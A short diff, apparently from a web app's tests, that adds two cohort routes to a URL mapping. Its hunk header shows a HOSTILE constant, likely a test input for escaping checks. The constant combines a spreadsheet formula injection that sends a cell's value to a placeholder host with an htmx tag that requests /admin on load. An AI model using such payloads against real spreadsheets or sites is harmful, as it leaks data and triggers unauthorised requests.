@@ -13,7 +13,9 @@ HOSTILE = '=HYPERLINK("http://x?"&A1)<img src=x hx-get=/admin hx-trigger=load>'
 ADDRESSES: Mapping[str, str] = {
     "home": "/",
     "cohorts": "/cohorts",
+    "cohort-new": "/cohorts/new",
     "cohort": "/cohorts/{dynamic}",
+    "cohort-rule": "/cohorts/{dynamic}/rule",
     "cohort-edited": "/cohorts/{dynamic}/edit",
     "cohort-static": "/cohorts/{static}",
     "cohort-progress": "/cohorts/{static}/progress",
